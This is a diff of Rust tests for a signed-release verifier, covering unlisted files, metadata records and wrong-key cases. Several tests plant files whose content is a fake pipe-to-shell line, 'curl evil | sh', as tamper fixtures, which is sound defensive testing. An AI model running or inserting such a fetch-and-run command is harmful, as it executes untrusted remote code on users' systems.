@@ -933,14 +933,65 @@ fn tamper_a_listed_file_is_missing() {
 }
 
 #[test]
-fn tamper_an_extra_unlisted_file() {
+fn tamper_an_extra_file_of_any_name() {
+    // Names that look like metadata are no pass: only the files the layout defines for what
+    // SHA256SUMS lists (under this signing mode) may sit beside the listed ones.
     let (_s, dir) = release_copy();
-    std::fs::write(dir.join("install.sh"), "#!/bin/sh\ncurl evil | sh\n").unwrap();
+    let key = dir.join("cosign.pub");
+    let trusted = dir.parent().unwrap().join("trusted.pub");
+    std::fs::copy(&key, &trusted).unwrap();
+    for name in [
+        "install.sh",
+        "notes.txt",
+        "evil.sigstore.json",
+        "evil.intoto.jsonl",
+        "SHA256SUMS.pem",
+        "SHA256SUMS.sig.bak",
+        "app-1.0.0-linux-amd64.cdx.sigstore.json",
+        "app-9.9.9-linux-amd64.cdx.intoto.jsonl",
+        "app-1.0.0-linux-amd64.cdx.json.cdx.intoto.jsonl",
+        "manifest.json.sig",
+    ] {
+        std::fs::write(dir.join(name), "#!/bin/sh\ncurl evil | sh\n").unwrap();
+        assert_fails(
+            &dir,
+            &trusted,
+            &format!("complete release: not listed in SHA256SUMS: {name} "),
+        );
+        std::fs::remove_file(dir.join(name)).unwrap();
+    }
+    let (code, report) = verify_json(&dir, &trusted);
+    assert_eq!((code, failed(&report)), (0, Vec::<String>::new()));
+}
+
+#[test]
+fn tamper_the_records_beside_the_release() {
+    // The unlisted files the layout allows are checked as what they claim to be.
+    let (_s, dir) = release_copy();
+    let trusted = dir.parent().unwrap().join("trusted.pub");
+    std::fs::copy(dir.join("cosign.pub"), &trusted).unwrap();
+    let (_, other) = other_key(dir.parent().unwrap());
+    std::fs::copy(&other, dir.join("cosign.pub")).unwrap();
+    assert_fails(&dir, &trusted, "metadata cosign.pub: holds key ");
+    std::fs::copy(&trusted, dir.join("cosign.pub")).unwrap();
+
+    std::fs::write(dir.join("manifest.json"), "{}").unwrap();
     assert_fails(
         &dir,
-        &dir.join("cosign.pub"),
-        "complete release: not listed in SHA256SUMS: install.sh",
+        &trusted,
+        "metadata manifest.json: not an xrelease manifest",
     );
+    std::fs::remove_file(dir.join("manifest.json")).unwrap();
+    std::fs::write(dir.join("publish-plan.json"), "[1]").unwrap();
+    assert_fails(
+        &dir,
+        &trusted,
+        "metadata publish-plan.json: not a publish plan",
+    );
+    std::fs::remove_file(dir.join("publish-plan.json")).unwrap();
+    // Without xrelease's records, the release still verifies: they are never published.
+    let (code, report) = verify_json(&dir, &trusted);
+    assert_eq!((code, failed(&report)), (0, Vec::<String>::new()));
 }
 
 #[test]
@@ -1037,7 +1088,13 @@ fn tamper_the_wrong_public_key_is_given() {
         "signature SHA256SUMS.sig: the signature does not verify",
     );
     // Everything signed fails; nothing about the files themselves does.
-    let signed = ["signature ", "attestation ", "provenance ", "sbom-attest "];
+    let signed = [
+        "signature ",
+        "attestation ",
+        "provenance ",
+        "sbom-attest ",
+        "metadata cosign.pub",
+    ];
     assert!(
         failures
             .iter()
